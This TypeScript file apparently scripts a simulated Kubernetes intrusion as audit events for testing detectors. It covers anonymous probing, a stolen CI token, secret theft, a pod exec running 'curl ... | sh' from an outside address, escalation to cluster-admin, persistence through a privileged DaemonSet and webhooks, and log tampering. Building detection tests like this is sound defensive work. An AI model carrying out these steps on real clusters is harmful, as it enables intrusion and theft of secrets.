/** The attack, request by request. Times are UTC; what each request must set off stands beside it. */
import { allowedBy, anonymous, calledFrom, rbacReason, unauthenticated } from '../../bench/actors.ts';
import { done, forbidden, forbiddenPath, path, unauthorized } from '../../bench/answers.ts';
import type { Call } from '../../bench/call.ts';
import { goJson } from '../../bench/go-json.ts';
import { type Cast, legacyToken, OUTSIDE_ADDRESS, PROBE_ADDRESS } from './cast.ts';
import {
  binding,
  deployment,
  nodeTuner,
  nodeTunerPod,
  patched,
  policyGuard,
  role,
  serviceAccountSubject,
  sidecarInjector,
  user,
  written,
} from './manifests.ts';
import { at, type Moment } from './moment.ts';
import { apps, core, rbac, review, webhooks } from './objects.ts';

function shell(command: readonly string[], container: string): string {
  const words = command.map((word) => `command=${encodeURIComponent(word)}`).join('&');
  return `${words}&container=${container}&stderr=true&stdin=true&stdout=true`;
}

/** 06:41: somebody tries the door. */
function probing(): Moment[] {
  const nobody = anonymous(PROBE_ADDRESS, 'python-requests/2.32.3');
  const guessing = unauthenticated(PROBE_ADDRESS, 'python-requests/2.32.3');
  // An old dashboard was opened to everybody, and nobody closed it again.
  const reason = rbacReason('legacy-dashboard/staging', 'legacy-dashboard', 'Group "system:unauthenticated"', {
    binding: 'RoleBinding',
    role: 'Role',
  });
  const guesses = ['42:10.051', '42:21.377', '42:34.902', '42:47.118', '43:02.640', '43:15.233', '43:31.874'];
  return [
    {
      at: at('06:41:12.404'),
      call: path(nobody, '/version'),
      silent: { detectors: ['anonymous-access'], why: 'the version is public' },
    },
    { at: at('06:41:13.127'), call: forbiddenPath(nobody, '/metrics') },
    { at: at('06:41:13.840'), call: forbiddenPath(nobody, '/api/v1') },
    { at: at('06:41:14.551'), call: forbidden(nobody, 'list', core('pods')) },
    { at: at('06:41:15.260'), call: forbidden(nobody, 'list', core('nodes')) },
    {
      at: at('06:41:15.973'),
      call: forbidden(nobody, 'list', core('secrets', 'kube-system')),
      finds: ['secret-denied'],
    },
    ...guesses.map((time) => ({
      at: at(`06:${time}`),
      call: unauthorized(guessing, 'list', core('pods', 'payments-prod')),
      finds: ['failed-authentication'],
    })),
    {
      at: at('06:52:48.316'),
      call: done(nobody, 'list', core('configmaps', 'staging'), { annotations: allowedBy(reason) }),
      finds: ['anonymous-access'],
    },
  ];
}

/** 07:58: a token of staging's build job, used from outside. */
function stolenToken({ ciRunner }: Cast): Moment[] {
  const limit = { query: 'limit=500' };
  const denied = (time: string, namespace: string, name: string): Moment => ({
    at: at(time),
    call: forbidden(ciRunner, 'get', core('secrets', namespace, name)),
    finds: ['secret-denied'],
  });
  return [
    { at: at('07:58:03.218'), call: done(ciRunner, 'create', review('authorization', 'selfsubjectrulesreviews')) },
    { at: at('07:58:19.745'), call: done(ciRunner, 'create', review('authorization', 'selfsubjectrulesreviews')) },
    { at: at('07:58:41.090'), call: done(ciRunner, 'create', review('authorization', 'selfsubjectaccessreviews')) },
    { at: at('07:59:02.633'), call: done(ciRunner, 'list', core('namespaces'), limit) },
    { at: at('07:59:08.127'), call: done(ciRunner, 'list', core('pods'), limit) },
    { at: at('07:59:14.902'), call: done(ciRunner, 'list', core('services'), limit) },
    { at: at('07:59:21.458'), call: forbidden(ciRunner, 'list', core('nodes'), limit) },
    { at: at('07:59:27.361'), call: done(ciRunner, 'list', core('serviceaccounts'), limit) },
    {
      at: at('07:59:40.515'),
      call: forbidden(ciRunner, 'create', review('authentication', 'tokenreviews')),
      silent: { detectors: ['failed-authentication'], why: 'one token review that failed; the window wants five' },
    },
    denied('08:01:11.204', 'payments-prod', 'stripe-api'),
    denied('08:01:19.871', 'payments-prod', 'ledger-database'),
    denied('08:01:30.446', 'kube-system', 'etcd-backup-key'),
    // It may not get one, but an old role lets it list them all, values included.
    {
      at: at('08:03:52.090'),
      call: done(ciRunner, 'list', core('secrets'), limit),
      finds: ['secrets-list-all-namespaces'],
      may: ['secret-read-cross-namespace'],
    },
    {
      at: at('08:03:52.641'),
      call: done(ciRunner, 'list', core('secrets'), { query: 'continue=eyJydiI6NzcxMn0&limit=500' }),
      finds: ['secrets-list-all-namespaces'],
      may: ['secret-read-cross-namespace'],
    },
  ];
}

/** 08:12: a token from that list belongs to the account that deploys the shop, which reaches further. */
function secretsAndShell({ deployer, cluster }: Cast): Moment[] {
  const pod = cluster.workloads.find(({ namespace }) => namespace === 'payments-prod');
  if (pod === undefined) throw new RangeError('nothing runs in payments-prod');
  const target = (subresource: string) => core('pods', pod.namespace, pod.pod, subresource);
  const read = (time: string, namespace: string, name: string): Moment => ({
    at: at(time),
    call: done(deployer, 'get', core('secrets', namespace, name)),
    finds: ['secret-read-cross-namespace'],
  });
  const own = (time: string, name: string): Moment => ({
    at: at(time),
    call: done(deployer, 'get', core('secrets', 'shop-prod', name)),
    silent: { detectors: ['secret-read-cross-namespace'], why: 'a service account in its own namespace' },
  });
  const query = shell(['sh', '-c', 'curl -s http://198.51.100.77/x.sh | sh'], pod.name);
  return [
    own('08:12:31.774', 'cart-session-key'),
    own('08:12:32.918', 'kubeconfig-backup'),
    read('08:13:05.320', 'payments-prod', 'stripe-api'),
    read('08:13:06.447', 'payments-prod', 'ledger-database'),
    read('08:13:07.590', 'payments-prod', 'sepa-signing-key'),
    read('08:13:08.733', 'payments-prod', 'stripe-api'),
    read('08:13:31.216', 'monitoring', 'alertmanager-main'),
    read('08:13:58.004', 'kube-system', 'etcd-backup-key'),
    // kubectl tries a WebSocket first; something on the way cuts it, and kubectl falls back to SPDY.
    {
      at: at('08:31:17.203'),
      call: done(deployer, 'get', target('exec'), { query, code: 101 }),
      seconds: 0.38,
      finds: ['prod-exec'],
      may: ['pod-exec'],
    },
    {
      at: at('08:31:17.714'),
      call: done(deployer, 'create', target('exec'), { query, code: 101 }),
      seconds: 212.4,
      finds: ['prod-exec'],
      may: ['pod-exec'],
    },
    {
      at: at('08:36:40.662'),
      call: done(deployer, 'get', target('portforward'), { query: 'ports=5432', code: 101 }),
      seconds: 1_520,
      finds: ['pod-exec'],
    },
  ];
}

/** 08:44: from an account of the shop to cluster-admin. */
function escalation({ deployer, deployerAsAdmin, aggregation }: Cast): Moment[] {
  const issued = '"authentication.kubernetes.io/issued-credential-id":"JTI=5f0c6f0e-8d0a-4a53-9f3e-2f3a0e0c7711"';
  const everything = [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }];
  const deployerSubject = serviceAccountSubject('shop-prod', 'deployer');
  const masters = goJson({ username: 'system:admin', groups: ['system:masters', 'system:authenticated'] });
  const impersonated = (time: string, call: Call): Moment => ({
    at: at(time),
    call: { ...call, impersonated: masters, annotations: `${legacyToken(deployer.username)},${allowedBy('')}` },
    finds: ['impersonation'],
  });
  return [
    {
      at: at('08:44:09.381'),
      call: done(
        deployer,
        'create',
        core('serviceaccounts', 'kube-system', 'clusterrole-aggregation-controller', 'token'),
        {
          annotations: `${legacyToken(deployer.username)},${issued},${allowedBy(rbacReason('release-deployer', 'release-deployer', 'ServiceAccount "deployer/shop-prod"'))}`,
        },
      ),
      finds: ['token-request'],
    },
    {
      at: at('08:46:55.127'),
      call: done(aggregation, 'create', rbac('clusterroles', 'node-health-reader'), {
        query: 'fieldManager=kubectl-create&fieldValidation=Strict',
        ...written(role('node-health-reader', undefined, everything)),
      }),
      finds: ['wildcard-role', 'rbac-change'],
    },
    {
      at: at('08:47:30.560'),
      call: done(aggregation, 'create', rbac('clusterrolebindings', 'node-health'), {
        query: 'fieldManager=kubectl-create&fieldValidation=Strict',
        ...written(binding('node-health', undefined, 'cluster-admin', deployerSubject)),
      }),
      finds: ['cluster-admin-binding', 'rbac-change'],
    },
    // A server-side apply of something new is a patch that creates: whoever looks for create only does not see it.
    {
      at: at('08:51:14.836'),
      call: done(deployerAsAdmin, 'patch', rbac('rolebindings', 'metrics-viewers', 'payments-prod'), {
        query: 'fieldManager=kubectl&fieldValidation=Strict&force=false',
        code: 201,
        ...written(binding('metrics-viewers', 'payments-prod', 'cluster-admin', user('backup-admin'))),
      }),
      finds: ['cluster-admin-binding', 'rbac-change'],
    },
    impersonated('08:58:20.449', done(deployerAsAdmin, 'list', core('nodes'), { query: 'limit=500' })),
    impersonated('08:58:44.015', done(deployerAsAdmin, 'get', core('configmaps', 'kube-system', 'kubeadm-config'))),
    impersonated('08:59:07.338', done(deployerAsAdmin, 'list', rbac('clusterrolebindings'), { query: 'limit=500' })),
  ];
}

/** 09:06: the kubeconfig that lay in a secret; a person's name, so no longer a service account. */
function persistence({ backupAdmin, cluster }: Cast): Moment[] {
  const controller = cluster.loop('daemon-set-controller');
  const apply = 'fieldManager=kubectl-client-side-apply&fieldValidation=Strict';
  const read = (time: string, namespace: string, name: string): Moment => ({
    at: at(time),
    call: done(backupAdmin, 'get', core('secrets', namespace, name)),
    finds: ['secret-read'],
  });
  return [
    read('09:06:12.050', 'payments-prod', 'stripe-api'),
    read('09:06:13.411', 'payments-prod', 'ledger-database'),
    read('09:06:14.806', 'payments-prod', 'sepa-signing-key'),
    read('09:06:40.219', 'cert-manager', 'letsencrypt-account'),
    {
      at: at('09:07:02.667'),
      call: done(backupAdmin, 'list', core('secrets', 'payments-prod'), { query: 'limit=500' }),
      may: ['secret-read'],
    },
    {
      at: at('09:15:31.142'),
      call: done(backupAdmin, 'create', apps('daemonsets', 'kube-system', 'node-tuner'), {
        query: apply,
        ...written(nodeTuner()),
      }),
      finds: ['privileged-pod'],
    },
    ...cluster.nodes.map((node, index) => ({
      at: at(`09:15:31.${310 + index * 17}`),
      call: done(controller, 'create', core('pods', 'kube-system'), written(nodeTunerPod(node.name))),
      may: ['privileged-pod'],
    })),
    {
      at: at('09:24:03.508'),
      call: done(backupAdmin, 'create', core('namespaces', undefined, 'kube-telemetry'), {
        query: 'fieldManager=kubectl-create&fieldValidation=Strict',
      }),
      finds: ['namespace-change'],
    },
    {
      at: at('09:26:45.972'),
      call: done(backupAdmin, 'create', webhooks('mutatingwebhookconfigurations', 'pod-sidecar-injector'), {
        query: apply,
        ...written(sidecarInjector()),
      }),
      finds: ['admission-webhook-change'],
    },
    {
      at: at('09:28:19.330'),
      call: done(backupAdmin, 'patch', webhooks('validatingwebhookconfigurations', 'policy-guard'), {
        query: 'fieldManager=kubectl-patch',
        ...patched([{ op: 'replace', path: '/webhooks/0/failurePolicy', value: 'Ignore' }], policyGuard()),
      }),
      finds: ['admission-webhook-change'],
    },
  ];
}

/** 09:33: the traces. One Audit-ID on all requests, so that a tool which counts each id once sees only the first. */
function tampering({ backupAdmin }: Cast): Moment[] {
  const clearsScreen = calledFrom(backupAdmin, [OUTSIDE_ADDRESS], 'kubectl/v1.33.1\u001b[2J\u001b[H (linux/amd64)');
  const requests: readonly (readonly [time: string, call: Call])[] = [
    ['09:33:10.227', done(backupAdmin, 'deletecollection', core('events', 'payments-prod'))],
    ['09:33:41.680', done(backupAdmin, 'delete', core('configmaps', 'kube-system', 'audit-policy'))],
    [
      '09:35:02.914',
      done(backupAdmin, 'patch', apps('deployments', 'payments-prod', 'ledger'), {
        query: 'fieldManager=kubectl-patch',
        ...patched(
          { metadata: { annotations: { note: 'x' } }, _jsonata_function: true },
          deployment('payments-prod', 'ledger', 'x'),
        ),
      }),
    ],
    ['09:36:27.105', done(clearsScreen, 'list', core('pods', 'kube-system'), { query: 'limit=500' })],
  ];
  return requests.map(([time, call]) => ({
    at: at(time),
    call,
    auditID: '00000000-0000-4000-8000-000000000000',
    finds: ['tamper'],
  }));
}

export function attack(cast: Cast): Moment[] {
  return [
    ...probing(),
    ...stolenToken(cast),
    ...secretsAndShell(cast),
    ...escalation(cast),
    ...persistence(cast),
    ...tampering(cast),
  ];
}
